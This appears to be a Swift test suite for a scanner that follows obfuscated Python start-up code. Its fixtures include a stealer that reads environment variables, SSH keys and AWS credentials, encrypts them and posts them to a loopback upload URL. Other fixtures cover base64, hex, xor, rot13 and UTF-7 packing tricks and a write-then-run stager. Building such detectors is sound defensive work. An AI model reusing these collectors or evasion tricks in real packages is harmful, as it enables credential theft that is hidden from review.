import Evidence
import TestSupport
import Testing

/// Harmless imitations of what was seen in the wild, put together at run time.
@Suite("Payloads")
struct PayloadTests {
  /// Collects the environment and key files, encrypts, and posts to loopback.
  static let collector = """
    import os, glob, json, subprocess, urllib.request
    found = dict(os.environ)
    for pattern in ['~/.ssh/id_*', '~/.aws/credentials']:
        for path in glob.glob(os.path.expanduser(pattern)):
            with open(path) as file:
                found[path] = file.read()
    blob = json.dumps(found).encode()
    sealed = subprocess.run(['openssl', 'enc', '-aes-256-cbc', '-pbkdf2'], input=blob, capture_output=True).stdout
    request = urllib.request.Request('http://127.0.0.1:9/upload', data=sealed, method='POST')
    urllib.request.urlopen(request)
    """

  static func base64(_ text: String) -> String { base64(Array(text.utf8)) }

  static func base64(_ bytes: [UInt8]) -> String {
    let alphabet = Array("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/".utf8)
    var result: [UInt8] = []
    for start in stride(from: 0, to: bytes.count, by: 3) {
      let part = Array(bytes[start..<min(start + 3, bytes.count)])
      let value = part.reduce(0) { $0 << 8 | Int($1) } << (8 * (3 - part.count))
      for index in 0..<4 { result.append(index <= part.count ? alphabet[value >> (18 - 6 * index) & 63] : 0x3D) }
    }
    return String(decoding: result, as: UTF8.self)
  }

  static func packed(_ code: String) -> String { "import base64; exec(base64.b64decode('\(base64(code))'))" }

  private func check(_ reached: ReachedCode, layers: Int) throws {
    #expect(reached.layers.count == layers)
    #expect(reached.has(.environmentRead, "*"))
    #expect(reached.has(.credentialRead, "~/.ssh/id_*"))
    #expect(reached.has(.credentialRead, "~/.aws/credentials"))
    #expect(reached.has(.encryption))
    #expect(reached.has(.networkConnect, "http://127.0.0.1:9/upload"))
    for flow in [
      "env.read → network.connect", "credential.read → network.connect", "credential.read → crypto.encrypt",
    ] {
      #expect(reached.flowKinds.contains(flow), "\(reached.flowKinds)")
    }
    #expect(reached.opaque.isEmpty, "\(reached.opaque)")
  }

  @Test("in a start-up line are followed through a child and two encodings")
  func startupLine() throws {
    let inner = Self.packed(Self.packed(Self.collector))
    let line = "import os, subprocess, sys; subprocess.Popen([sys.executable, \"-c\", \"\(inner)\"])"
    let reached = follow(.source(line, at: Place("demo_init.pth", line: 1)), at: "demo_init.pth")
    try check(reached, layers: 3)
    #expect(reached.layers.map(\.parent) == [nil, 0, 1])
    #expect(reached.layers.last?.decoders == ["base64", "exec"])
    #expect(reached.layers.first?.decoders == ["python -c"])
    let network = try #require(reached.capabilities.first { $0.kind == .networkConnect })
    #expect(network.layer == 2)
    #expect(
      network.chain.map(\.what) == [
        "opens layer 1 (python -c)", "opens layer 2 (base64, exec)", "opens layer 3 (base64, exec)",
        "calls `urllib.request.urlopen`",
      ])
    #expect(network.chain.map(\.layer) == [nil, 0, 1, 2])
    #expect(network.chain.first?.line == 1)
    #expect(network.via == "urllib.request.urlopen")
  }

  static let splitModules: [(String, String)] = [
    ("demo/__init__.py", "from . import run\n"),
    ("demo/names.py", "URL = 'http://' + '127.0.0.1:9' + '/upload'\nPLACES = ['~/.ssh/id_*', '~/.aws/credentials']\n"),
    (
      "demo/collect.py",
      "import os, glob\nfrom .names import PLACES\nclass Bag:\n  def __init__(self):\n    self.items = {}\n"
        + "  def fill(self):\n    self.items.update(os.environ)\n    for p in PLACES:\n"
        + "      for f in glob.glob(os.path.expanduser(p)):\n        self.items[f] = open(f).read()\n    return self\n"
    ),
    (
      "demo/send.py",
      "import json, urllib.request\nfrom cryptography.fernet import Fernet\nfrom .names import URL\n"
        + "def seal(x):\n  return Fernet(Fernet.generate_key()).encrypt(json.dumps(x).encode())\n"
        + "def send(x):\n  urllib.request.urlopen(urllib.request.Request(URL, data=seal(x)))\n"
    ),
    ("demo/run.py", "from .collect import Bag\nfrom .send import send\nbag = Bag().fill()\nsend(bag.items)\n"),
  ]

  @Test("split over four modules are put together again")
  func split() throws {
    let reached = follow(.module("demo"), in: Self.splitModules)
    try check(reached, layers: 0)
    #expect(reached.modules == ["demo", "demo.run", "demo.collect", "demo.send", "demo.names"])
    let network = try #require(reached.capabilities.first { $0.kind == .networkConnect })
    #expect(
      network.chain.map(\.what) == [
        "imports `demo`", "imports `demo.run`", "calls `send`", "calls `urllib.request.urlopen`",
      ])
    #expect(network.chain.map(\.path) == ["demo.pth", "demo/__init__.py", "demo/run.py", "demo/send.py"])
  }

  @Test(
    "are found through every kind of start",
    arguments: [
      CodeStart.entryPoint(module: "demo.run", attribute: "send", isCalled: false),
      .source("import demo.run", at: Place("x.pth", line: 1)),
      .module("sitecustomize"),
      .file("demo/main.py"),
      .shell("if true; then python3 -c 'import demo.run'; fi", at: Place("activate", line: 3)),
    ])
  func starts(start: CodeStart) throws {
    let files = Self.splitModules + [("sitecustomize.py", "import demo"), ("demo/main.py", "import demo.run")]
    let reached = follow(start, in: files)
    #expect(reached.flowKinds.contains("credential.read → network.connect"))
  }

  @Test("are found in a directory and in an archive on the search path", arguments: ["hidden/lib", "data/x.zip"])
  func searchPath(root: String) {
    let separator = root.hasSuffix(".zip") ? "!/" : "/"
    let reached = follow(
      .source("import inner", at: Place("x.pth", line: 2)), in: [(root + separator + "inner.py", Self.collector)],
      searchPath: [root])
    #expect(reached.flowKinds.contains("credential.read → network.connect"))
    #expect(reached.modules == ["inner"])
  }

  @Test(
    "that are packed in other ways are opened",
    arguments: [
      ("hex", "exec(bytes.fromhex('%@').decode())", Packing.Way.hex),
      ("rot13", "import codecs\nexec(codecs.decode('%@', 'rot13'))", Packing.Way.rot13),
      ("reversed", "exec('%@'[::-1])", Packing.Way.reversed),
      ("chr", "exec(''.join(map(chr, [%@])))", Packing.Way.codes),
      ("bytes", "exec(bytes([%@]))", Packing.Way.codes),
      ("exclusive or", "exec(bytes(b ^ 42 for b in bytes.fromhex('%@')))", Packing.Way.xor),
      ("split and joined", "exec('|'.join('%@'.split('|')))", Packing.Way.plain),
      ("big integer", "n = 0x%@\nexec(n.to_bytes((n.bit_length() + 7) // 8, 'big'))", Packing.Way.hex),
    ])
  func packings(name: String, template: String, packing: Packing.Way) {
    let packed = Packing(code: "import os;os.system(\"id\")").text(packing)
    let parts = template.split(separator: "%@", omittingEmptySubsequences: false)
    let reached = followModule(parts[0] + packed + parts[1])
    #expect(reached.has(.processSpawn, "id"), "\(name): \(reached.capabilities) \(reached.opaque)")
    #expect(reached.layers.count == 1)
  }

  @Test(
    "that cannot be opened are reported",
    arguments: [
      "import marshal, base64\nexec(marshal.loads(base64.b64decode('4wAAAA==')))",
      "import base64, zlib\nexec(zlib.decompress(base64.b64decode('bm90IHpsaWI=')))",
      "import urllib.request\nexec(urllib.request.urlopen('http://127.0.0.1:9/').read())",
    ])
  func opaque(code: String) {
    let reached = followModule(code)
    #expect(reached.has(.codeEvaluate))
    #expect(!reached.opaque.isEmpty)
  }

  @Test("written to a file and run are followed")
  func writtenAndRun() {
    let reached = followModule(
      """
      import subprocess, sys
      with open('/tmp/stage.py', 'w') as f:
          f.write('import os; os.system("id")')
      subprocess.Popen([sys.executable, '/tmp/stage.py'])
      """)
    #expect(reached.has(.processSpawn, "id"))
    #expect(reached.layers.map(\.decoders) == [["script"]])
  }

  @Test("carried by another member are opened")
  func carrier() {
    let reached = follow(
      .module("demo"),
      in: [
        (
          "demo/__init__.py",
          "import os, base64\np = os.path.join(os.path.dirname(__file__), 'data.txt')\nexec(base64.b64decode(open(p).read()))"
        ),
        ("demo/data.txt", Self.base64("import os; os.system('id')")),
      ])
    #expect(reached.has(.processSpawn, "id"), "\(reached.capabilities)")
  }
}

/// One code in several encodings.
struct Packing: Sendable {
  let code: String
  enum Way: Sendable { case plain, hex, xor, reversed, codes, rot13 }
  func text(_ way: Way) -> String {
    switch way {
    case .plain: plain
    case .hex: hex
    case .xor: xor
    case .reversed: reversed
    case .codes: codes
    case .rot13: rot13
    }
  }
  var plain: String { code }
  var hex: String { code.utf8.map { ($0 < 16 ? "0" : "") + String($0, radix: 16) }.joined() }
  var xor: String { code.utf8.map { $0 ^ 42 }.map { ($0 < 16 ? "0" : "") + String($0, radix: 16) }.joined() }
  var reversed: String { String(code.reversed()) }
  var codes: String { code.utf8.map { String($0) }.joined(separator: ", ") }
  var rot13: String {
    String(
      decoding: code.utf8.map { byte -> UInt8 in
        switch byte {
        case 0x41...0x5A: (byte - 0x41 + 13) % 26 + 0x41
        case 0x61...0x7A: (byte - 0x61 + 13) % 26 + 0x61
        default: byte
        }
      }, as: UTF8.self)
  }
}

@Suite("Source encodings")
struct SourceEncodingTests {
  @Test("are undone as the interpreter does")
  func cookie() {
    // UTF-7, in which `+AAo-` is a line end: a reader of bytes sees one comment.
    let source = "# coding: utf-7\n# harmless+AAo-import os+AAo-os.system('id')\n"
    let reached = followModule(source)
    #expect(reached.has(.processSpawn, "id") || !reached.opaque.isEmpty)
  }
}
